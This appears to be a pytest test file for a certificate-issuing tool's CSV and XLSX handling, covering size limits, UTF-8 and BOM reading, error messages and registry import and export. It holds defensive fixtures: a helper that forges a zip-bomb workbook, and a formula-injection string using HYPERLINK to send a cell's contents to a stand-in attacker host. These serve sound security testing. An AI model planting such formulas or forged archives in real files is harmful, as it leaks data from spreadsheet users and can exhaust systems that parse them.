"""certissuer._tables: one place for the limits, encodings and error places of CSV and XLSX."""

from __future__ import annotations

import codecs
import struct
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from typer.testing import CliRunner

from certissuer import _tables, intake
from certissuer._tables import (
    check_file,
    csv_bytes,
    csv_rows,
    open_workbook,
    sheet_rows,
    write_csv,
)
from certissuer.cli import app
from certissuer.errors import InputError, InputErrors
from certissuer.intake.manifest import ManifestRejected, iter_manifest
from certissuer.ledger import Ledger
from certissuer.registry import Register

BOMB_CLAIM = 0xFFFF0000
"""What each member of the forged workbook claims to unpack to: about 4 GB."""

MANIFEST_HEADER = ["paper_number", "kind", "instrument", "serial", "owner", "issue_date", "scans"]


def _workbook(path: Path, title: str, rows: list[list[Any]]) -> Path:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = title
    for row in rows:
        sheet.append(row)
    book.save(path)
    return path


def _zip_bomb(path: Path) -> Path:
    """A real workbook whose zip directory says each member unpacks to `BOMB_CLAIM` bytes.

    The limit is judged from the zip directory before anything is unpacked, so the claim is
    what a zip bomb looks like to it (a real one would only take longer to build).
    """
    _workbook(path, "certificates", [["ref", "kind"], ["R1", "calibration"]])
    data = bytearray(path.read_bytes())
    at = data.find(b"PK\x01\x02")
    assert at >= 0
    while at >= 0:
        data[at + 24 : at + 28] = struct.pack("<I", BOMB_CLAIM)  # uncompressed size
        at = data.find(b"PK\x01\x02", at + 4)
    path.write_bytes(bytes(data))
    return path


def _enter(path: Path) -> None:
    with open_workbook(path):
        pass


def _register(path: Path) -> Register:
    """A register of lab T01 in a new SQLite ledger beside `path`."""
    return Register(Ledger.open(f"sqlite:///{path.parent / 'register.db'}").engine, lab_code="T01")


def _registry_cli(tmp_path: Path, *args: str) -> Any:
    """Run ``certissuer registry ARGS`` against a new SQLite ledger in `tmp_path`."""
    config = tmp_path / "lab.toml"
    ledger_url = f"sqlite:///{tmp_path / 'cli.db'}"
    config.write_text(f'[lab]\ncode = "T01"\n[ledger]\nurl = "{ledger_url}"\n', encoding="utf-8")
    return CliRunner().invoke(app, ["--config", str(config), "registry", *args])


XLSX_READERS: dict[str, Callable[[Path], object]] = {
    "open_workbook": _enter,
    "intake.read_certificates": intake.read_certificates,
    "intake.iter_records": lambda p: list(intake.iter_records(p)),
    "intake.manifest": lambda p: list(iter_manifest(p, scans=p.parent)),
    "registry.import_file": lambda p: _register(p).import_file("instrument", p),
}


@pytest.mark.parametrize("read", XLSX_READERS.values(), ids=XLSX_READERS.keys())
def test_zip_bomb_is_refused_before_openpyxl_opens_it(
    read: Callable[[Path], object], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    bomb = _zip_bomb(tmp_path / "bomb.xlsx")

    def never(*args: object, **kwargs: object) -> None:
        raise AssertionError("openpyxl was asked to unpack a zip bomb")

    monkeypatch.setattr(openpyxl, "load_workbook", never)
    with pytest.raises((InputError, InputErrors), match=r"bomb\.xlsx: the workbook unpacks to"):
        read(bomb)


@pytest.mark.parametrize("read", XLSX_READERS.values(), ids=XLSX_READERS.keys())
def test_a_file_that_is_no_workbook_is_an_input_error(
    read: Callable[[Path], object], tmp_path: Path
) -> None:
    bad = tmp_path / "bad.xlsx"
    bad.write_bytes(b"ref,kind\nR1,calibration\n")
    with pytest.raises((InputError, InputErrors), match="not a zip archive"):
        read(bad)


def test_the_unpacked_limit_follows_the_file_limit(tmp_path: Path) -> None:
    book = _workbook(tmp_path / "b.xlsx", "certificates", [["ref", "kind"]])
    _tables.check_unpacked_size(book)  # a small workbook passes
    with pytest.raises(InputError, match="unpacks to"):
        _tables.check_unpacked_size(book, max_bytes=1)


def test_a_file_over_the_limit_is_refused_before_reading(tmp_path: Path) -> None:
    path = tmp_path / "big.csv"
    path.write_bytes(b"ref,kind\n" + b"x,y\n" * 100)
    with pytest.raises(InputError, match=r"big\.csv: the file is 409 bytes, more than the limit"):
        check_file(path, max_bytes=100)


@pytest.mark.parametrize("bom", [True, False], ids=["bom", "no-bom"])
def test_csv_is_read_as_utf8_with_or_without_bom(bom: bool, tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    text = "ref,owner\nR1, Đồng Tháp \n"
    path.write_bytes((codecs.BOM_UTF8 if bom else b"") + text.encode())
    assert list(csv_rows(path)) == [(1, ["ref", "owner"]), (2, ["R1", "Đồng Tháp"])]


def test_csv_that_is_not_utf8_names_line_and_byte(tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    path.write_bytes("ref,owner\nR1,Đồng\n".encode("cp1258", errors="replace"))
    with pytest.raises(InputError, match=r"t\.csv: the file is not UTF-8 text: .* at line 2"):
        list(csv_rows(path))


@pytest.mark.parametrize("bom", [True, False], ids=["bom", "no-bom"])
def test_manifest_csv_with_bom_keeps_its_first_column(bom: bool, tmp_path: Path) -> None:
    path = tmp_path / "manifest.csv"
    rows = [MANIFEST_HEADER, ["P-1", "verification", "Cân", "S1", "Chủ", "2020-01-02", ""]]
    path.write_bytes(csv_bytes(rows[0], rows[1:])[0 if bom else len(codecs.BOM_UTF8) :])
    (item,) = iter_manifest(path, scans=tmp_path)
    assert isinstance(item, ManifestRejected)
    assert [e.field for e in item.errors] == ["scans"]  # paper_number was read
    assert str(item.errors[0]).startswith(f"{path}, row 2, field 'scans'")


def test_written_csv_starts_with_the_bom_and_reads_back(tmp_path: Path) -> None:
    path = tmp_path / "out" / "t.csv"
    rows: list[list[str | None]] = [["KĐ-2026-000001", "Đồng Tháp"], ["KĐ-2026-000002", None]]
    assert write_csv(path, ["number", "place"], rows) == 2
    data = path.read_bytes()
    assert data.startswith(codecs.BOM_UTF8)
    assert data == csv_bytes(["number", "place"], rows)
    assert data[3:].decode() == "number,place\r\nKĐ-2026-000001,Đồng Tháp\r\nKĐ-2026-000002,\r\n"
    assert [cells for _, cells in csv_rows(path)][1:] == [
        ["KĐ-2026-000001", "Đồng Tháp"],
        ["KĐ-2026-000002", ""],
    ]


def test_workbook_written_whole(tmp_path: Path) -> None:
    book = _tables.new_workbook()
    book.create_sheet("s").append(["a", 1])
    path = tmp_path / "w.xlsx"
    _tables.save_workbook(book, path)
    assert not list(tmp_path.glob(".*.tmp"))
    with open_workbook(path) as opened:
        assert [c for _, c in sheet_rows("w.xlsx [s]", opened["s"])] == [["a", "1"]]


class _DamagedSheet:
    """A sheet whose XML breaks after two rows, as a damaged file does while streaming."""

    title = "results"

    def reset_dimensions(self) -> None:
        pass

    def iter_rows(self) -> Iterator[list[Any]]:
        cell = type("Cell", (), {"value": "x", "number_format": "General"})()
        yield [cell]
        yield [cell]
        raise ValueError("unexpected end of XML")


def test_sheet_error_names_sheet_and_row() -> None:
    where = _tables.sheet_where(Path("book.xlsx"), "results")
    with pytest.raises(InputError, match=r"book\.xlsx \[results\], row 3: the sheet cannot be"):
        list(sheet_rows(where, _DamagedSheet()))


def test_manifest_workbook_errors_name_sheet_and_row(tmp_path: Path) -> None:
    rows = [MANIFEST_HEADER, ["P-1", "verification", "Cân", "", "Chủ", "2020-01-02", "a.jpg"]]
    path = _workbook(tmp_path / "manifest.xlsx", "giấy tờ", rows)
    (item,) = iter_manifest(path, scans=tmp_path)
    assert isinstance(item, ManifestRejected)
    assert item.source == str(path) and item.row == 2
    assert str(item.errors[0]) == f"{path} [giấy tờ], row 2, field 'serial': missing (required)"


def test_results_workbook_errors_name_sheet_and_row(tmp_path: Path) -> None:
    path = _workbook(tmp_path / "r.xlsx", "certificates", [["ref", "kind", "bogus"]])
    book = openpyxl.load_workbook(path)
    book["certificates"].append(["R1", "calibration", "x"])
    book.save(path)
    with pytest.raises(InputErrors) as caught:
        intake.read_certificates(path)
    assert f"{path} [certificates], row 2" in str(caught.value)


def test_registry_import_refuses_a_zip_bomb_on_the_console(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    bomb = _zip_bomb(tmp_path / "bomb.xlsx")

    def never(*args: object, **kwargs: object) -> None:
        raise AssertionError("openpyxl was asked to unpack a zip bomb")

    monkeypatch.setattr(openpyxl, "load_workbook", never)
    result = _registry_cli(tmp_path, "import", "instrument", str(bomb))
    assert result.exit_code == 2, result.output
    assert f"error: {bomb}: the workbook unpacks to" in result.output
    assert "hint: split the results into several smaller workbooks" in result.output


def test_registry_import_errors_name_sheet_and_row_on_the_console(tmp_path: Path) -> None:
    header = ["owner_code", "owner_name", "type_code", "serial", "valid_until"]
    rows = [
        header,
        ["MST-1", "Cơ sở 1", "can-ban", "S1", "2027-01-31"],
        ["MST-1", "Cơ sở 1", "can-ban", "S2", "31/01/2027"],
    ]
    path = _workbook(tmp_path / "thiết bị.xlsx", "thiết bị", rows)
    result = _registry_cli(tmp_path, "import", "instrument", str(path))
    assert result.exit_code == 2, result.output
    assert (
        f"rejected: {path} [thiết bị], row 3, field 'valid_until': expected a date YYYY-MM-DD, "
        "got '31/01/2027'"
    ) in result.output
    assert "1 imported, 1 rejected" in result.output


def test_registry_csv_import_counts_a_quoted_newline_in_its_row(tmp_path: Path) -> None:
    path = tmp_path / "people.csv"
    path.write_bytes(
        csv_bytes(
            ["name", "title", "card_expiry"],
            [["A", "Kiểm định viên\nhạng 1", "2027-01-01"], ["B", "", "01/02/2027"]],
        )
    )
    report = _register(path).import_file("person", path)
    assert report.imported == 1
    assert [str(e) for e in report.errors] == [
        f"{path}, row 3, field 'card_expiry': expected a date YYYY-MM-DD, got '01/02/2027'"
    ]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_registry_export_reads_back_through_the_table_module(suffix: str, tmp_path: Path) -> None:
    register = _register(tmp_path / "x")
    register.add("person", {"name": "Phạm Minh Tuấn", "signatory": "yes", "card_expiry": ""})
    out = tmp_path / f"people{suffix}"
    assert register.export_file("person", out) == 1
    if suffix == ".csv":
        assert out.read_bytes().startswith(codecs.BOM_UTF8)  # so Excel reads it as UTF-8
    rows = list(_tables.table_rows(out))
    where = str(out) if suffix == ".csv" else f"{out} [person]"
    assert rows[0][:2] == (where, 1) and rows[0][2][0] == "name"
    assert dict(zip(rows[0][2], rows[1][2], strict=True))["signatory"] == "yes"


def test_write_table_refuses_an_unknown_format(tmp_path: Path) -> None:
    with pytest.raises(InputError, match=r"t\.txt: expected a \.csv or \.xlsx file to write"):
        _tables.write_table(tmp_path / "t.txt", ["a"], [])
    with pytest.raises(InputError, match=r"t\.ods: expected a \.csv or \.xlsx file"):
        list(_tables.table_rows(tmp_path / "t.ods"))


_FORMULA = '=HYPERLINK("http://attacker.invalid/?x="&A1,"Xem / Open")'


def test_a_typed_formula_stays_text_in_every_written_workbook(tmp_path: Path) -> None:
    register = _register(tmp_path / "x")
    register.add("person", {"name": _FORMULA, "signatory": "yes", "card_expiry": ""})
    out = tmp_path / "people.xlsx"
    assert register.export_file("person", out) == 1
    cell = openpyxl.load_workbook(out)["person"]["A2"]
    assert (cell.value, cell.data_type) == (_FORMULA, "s")  # text, never run as a formula
    assert [row[2][0] for row in _tables.table_rows(out)][1] == _FORMULA  # and reads back as typed


def test_a_typed_place_stays_text_in_the_hub_inspection_workbook(tmp_path: Path) -> None:
    from certissuer.hub.inspection_report import InspectionReport, Tally, write_xlsx

    report = InspectionReport(
        year=2026, rounds=1, checks=1, violations=0, by_place=[Tally(_FORMULA, 1, 0)]
    )
    write_xlsx(report, tmp_path / "i.xlsx")
    cell = openpyxl.load_workbook(tmp_path / "i.xlsx")["Dia diem"]["A2"]
    assert (cell.value, cell.data_type) == (_FORMULA, "s")
